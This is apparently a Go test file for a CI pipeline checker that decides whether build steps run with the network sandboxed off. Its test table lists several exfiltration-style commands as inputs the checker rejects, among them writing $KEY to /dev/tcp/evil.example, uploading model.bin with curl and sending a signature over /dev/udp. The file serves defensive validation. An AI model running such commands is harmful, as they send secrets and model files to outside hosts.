package pipeline

import "testing"

func TestOfflineStep(t *testing.T) {
	for _, c := range []struct {
		step Step
		want bool
	}{
		{Step{Uses: "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683"}, true},
		{Step{Uses: "actions/download-artifact@v4"}, true},
		{Step{Uses: "someone/upload-artifact@v4"}, false},
		{Step{Uses: "actions/setup-python@v5"}, false},
		{Step{Run: "sha256sum -c x.sha256\nchmod +x tools/bin/mlgate\ntools/bin/mlgate run --network none --rw out -- python train.py"}, true},
		{Step{Run: "mlgate run --network=none -- python train.py && mlgate digest out > d"}, true},
		{Step{Run: "python3 -m venv .venv"}, true},
		{Step{Run: "mlgate run -- python train.py"}, false}, // default network: not known to be off
		{Step{Run: "mlgate run --network allow --allow-host hf.co:443 -- python train.py"}, false},
		{Step{Run: "mlgate run --rw out -- python x.py --network none"}, false}, // the flag after -- is the command's
		{Step{Run: "python train.py"}, false},
		{Step{Run: "sha256sum -c x && curl https://x.example/up -d @model.bin"}, false},
		{Step{Run: "echo $(curl https://x.example)"}, false},
		{Step{Run: "mlgate sign m --format keyless"}, false},
		{Step{Run: "echo $KEY > /dev/tcp/evil.example/80"}, false},
		{Step{Run: "cat model.sig >/dev/udp/10.0.0.1/53"}, false},
		{Step{Run: "mlgate run --network none -- python x.py", Shell: "pwsh"}, false},
	} {
		if got := offlineStep(&c.step); got != c.want {
			t.Errorf("%+v: %v, want %v", c.step, got, c.want)
		}
	}
}

func TestApplySandboxes(t *testing.T) {
	s := &Stage{Name: "train", Network: Network{Access: True}, Steps: []Step{
		{Uses: "actions/download-artifact@v4"},
		{Run: "mlgate run --network none --rw out -- python train.py"},
	}}
	applySandboxes(s)
	if s.Network.Access != False {
		t.Fatal("sandboxed stage still has network")
	}
	s2 := &Stage{Name: "train", Network: Network{Access: True}, Steps: []Step{
		{Run: "mlgate run --network none -- python train.py"},
		{Run: "python eval.py"},
	}}
	applySandboxes(s2)
	if s2.Network.Access != True {
		t.Fatal("one unsandboxed step must keep the network")
	}
	spec := &Stage{Name: "x", Network: Network{Access: True}}
	applySandboxes(spec)
	if spec.Network.Access != True {
		t.Fatal("a stage without steps changed")
	}
}
